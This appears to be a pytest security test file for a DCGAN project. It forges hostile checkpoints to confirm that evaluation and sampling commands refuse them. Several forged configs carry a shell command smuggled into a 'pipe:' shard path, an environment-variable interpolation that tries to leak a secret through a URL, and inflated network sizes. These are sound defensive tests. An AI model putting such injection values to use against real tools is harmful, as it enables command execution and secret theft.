"""Checkpoints someone else made are data (SECURITY.md): what their config names is never run, fetched or resolved,
and their sizes cannot make a command allocate more than the file itself holds. Each test goes through the command
a user types with a checkpoint forged the way an attacker would write one."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import torch

from dcgan_dist import checkpoint, config, models
from dcgan_dist.evaluate import fid
from helpers import FileSite


def _forge(path: Path, built_with: dict | None = None, claimed: dict | None = None) -> Path:
    """A best.pt-like record: networks built from the tiny model (plus built_with), whose saved config claims the
    tiny model updated with `claimed` (dotted keys: 'data.shards', 'model.ngf', ...)."""
    base = ["model.resolution=32", "model.channels=1", "model.ngf=8", "model.ndf=8"]
    real = config.load(None, base + [f"{k}={v}" for k, v in (built_with or {}).items()])
    G, D = models.Generator(real.model), models.Discriminator(real.model)
    saved = config.to_dict(real)
    for key, value in (claimed or {}).items():
        section, name = key.split(".")
        saved[section][name] = value
    record = checkpoint.Checkpoint(config=saved, images=320, G=G.state_dict(), D=D.state_dict())
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(record.to_file_dict(), path)
    return path


# A small Python between the test and the command, which reports the command's peak RSS: a child forked from the
# test process (an xdist worker of a few GB by then) starts with the worker's pages counted, so neither
# RUSAGE_CHILDREN nor wait4 here would measure the command alone (CI saw 2.3 GB that way).
_MEASURED = ("import resource, subprocess, sys\n"
             "code = subprocess.run(sys.argv[1:]).returncode\n"
             "print(f'\\npeak-rss-kib {resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}', file=sys.stderr)\n"
             "sys.exit(code)\n")


def _run(args: list[str], cwd: Path, env: dict | None = None) -> tuple[subprocess.CompletedProcess, int]:
    """The command as a user runs it, with its peak RSS in MiB."""
    r = subprocess.run([sys.executable, "-c", _MEASURED, sys.executable, "-m", *args], cwd=cwd, capture_output=True,
                       text=True, timeout=300, env={**os.environ, **(env or {})})
    stderr, _, peak = r.stderr.rpartition("\npeak-rss-kib ")
    return subprocess.CompletedProcess(r.args, r.returncode, r.stdout, stderr), int(peak) // 1024


def test_a_checkpoints_pipe_command_is_never_run(tmp_path):
    """The issue's finding: `evaluate nearest evil.pt` ran `touch PWNED` from the checkpoint's data.shards."""
    evil = _forge(tmp_path / "evil.pt", claimed={"data.shards": "pipe:touch PWNED; tar cf - -T /dev/null"})
    for command in (["nearest", "--n", "4"], ["features"], ["coverage"]):
        r, _ = _run(["dcgan_dist.evaluate", command[0], str(evil), *command[1:]], cwd=tmp_path)
        assert r.returncode == 2, r.stderr
        assert not (tmp_path / "PWNED").exists()
        assert "data.shards" in r.stderr and "--shards" in r.stderr and "Traceback" not in r.stderr


def test_a_checkpoints_url_is_never_fetched_nor_its_interpolation_resolved(tmp_path):
    with FileSite() as site:  # no files: 404 for every path, and each one recorded
        leaky = _forge(tmp_path / "leaky.pt",
                       claimed={"data.shards": site.url + "${oc.env:DCGAN_TEST_SECRET}/{0..1}.tar"})
        plain = _forge(tmp_path / "url.pt", claimed={"data.shards": site.url + "shards-{0..1}.tar"})
        env = {"DCGAN_TEST_SECRET": "hunter2"}
        r, _ = _run(["dcgan_dist.evaluate", "nearest", str(leaky), "--n", "4"], cwd=tmp_path, env=env)
        assert r.returncode == 2 and "data.shards" in r.stderr and "interpolation" in r.stderr, r.stderr
        assert "hunter2" not in r.stdout + r.stderr
        r, _ = _run(["dcgan_dist.sample", str(leaky), "--n", "4", "--out", str(tmp_path / "g.png")], cwd=tmp_path,
                    env=env)
        assert r.returncode != 0 and "data.shards" in r.stderr and "Traceback" not in r.stderr, r.stderr
        r, _ = _run(["dcgan_dist.evaluate", "nearest", str(plain), "--n", "4"], cwd=tmp_path)
        assert r.returncode == 2 and "--shards" in r.stderr, r.stderr
        assert site.seen == []


def test_a_checkpoints_local_shards_are_used_and_named(tmp_path, mnist_shards):
    ckpt = _forge(tmp_path / "run" / "checkpoints" / "best.pt", claimed={"data.shards": str(mnist_shards)})
    r, _ = _run(["dcgan_dist.evaluate", "nearest", str(ckpt), "--n", "10", "--show", "2", "--k", "1",
                 "--limit", "60", "--out", str(tmp_path / "out")], cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert f"real images: {mnist_shards}, the checkpoint's data.shards" in r.stderr
    assert (tmp_path / "out" / "nearest.json").is_file()


def test_a_checkpoint_claiming_huge_networks_is_refused_before_building_them(tmp_path):
    """ngf = ndf = 4096 built ~84 GiB in `sample` before load_state_dict looked; today's upper bound refuses it,
    and a claim inside the bound (512 at 64 px: 1.45 GB of networks) beside small tensors is refused on shapes
    alone."""
    out = tmp_path / "grid.png"
    beyond = _forge(tmp_path / "beyond.pt", claimed={"model.ngf": 4096, "model.ndf": 4096})
    r, _ = _run(["dcgan_dist.sample", str(beyond), "--out", str(out)], cwd=tmp_path)
    assert r.returncode != 0 and "model.ngf" in r.stderr and "at most 512" in r.stderr, r.stderr
    within = _forge(tmp_path / "within.pt", claimed={"model.ngf": 512, "model.ndf": 512, "model.resolution": 64})
    r, peak_mib = _run(["dcgan_dist.sample", str(within), "--out", str(out)], cwd=tmp_path)
    assert r.returncode != 0 and "its config's model (resolution 64" in r.stderr and "ngf 512" in r.stderr, r.stderr
    assert "Traceback" not in r.stderr and not out.exists()
    # the import alone peaks at 0.65 GB here; building the claimed G and D first peaked at 1.9 GB (188cd17)
    assert peak_mib < 1200, f"peak RSS {peak_mib} MiB: the claimed networks were built"


def test_a_checkpoint_whose_tensors_do_not_fit_its_config_names_the_tensor(tmp_path):
    odd = _forge(tmp_path / "odd.pt", built_with={"model.ngf": 16}, claimed={"model.ngf": 8})
    r, _ = _run(["dcgan_dist.sample", str(odd), "--out", str(tmp_path / "g.png")], cwd=tmp_path)
    assert r.returncode != 0 and "G.main.0.weight has shape [100, 64, 4, 4]" in r.stderr, r.stderr
    assert "needs [100, 32, 4, 4]" in r.stderr and "Traceback" not in r.stderr


def test_sizes_have_upper_bounds_through_the_command_line(tmp_path):
    r = subprocess.run([sys.executable, "-m", "dcgan_dist.train", "data.read_retries=1000000",
                        f"run_dir={tmp_path / 'run'}"], capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "data.read_retries: must be at most 10" in r.stderr, r.stderr


def test_inception_weights_are_read_once_and_only_as_weights(tmp_path, monkeypatch):
    """The file is unpickled once, with weights_only=True; torch-fidelity gets the checked copy."""
    import torchvision

    net = torchvision.models.inception_v3(weights=None, aux_logits=False, init_weights=False, num_classes=1008)
    path = tmp_path / "inception.pth"
    torch.save(net.state_dict(), path)
    calls = []
    real_load = torch.load

    def spy(f, *args, **kwargs):
        calls.append((f, kwargs.get("weights_only")))
        return real_load(f, *args, **kwargs)

    monkeypatch.setattr(torch, "load", spy)
    fid.load_inception(path, 64)
    from_file = [w for f, w in calls if isinstance(f, (str, Path)) and Path(f) == path]
    assert from_file == [True], calls


def test_a_torch_whose_safe_loader_is_not_safe_is_refused(tmp_path, monkeypatch):
    ckpt = _forge(tmp_path / "ok.pt")
    monkeypatch.setattr(torch, "__version__", "2.9.1+cu128")
    with pytest.raises(checkpoint.CheckpointError, match=r"torch 2\.9\.1.*2\.10"):
        checkpoint.load(ckpt)
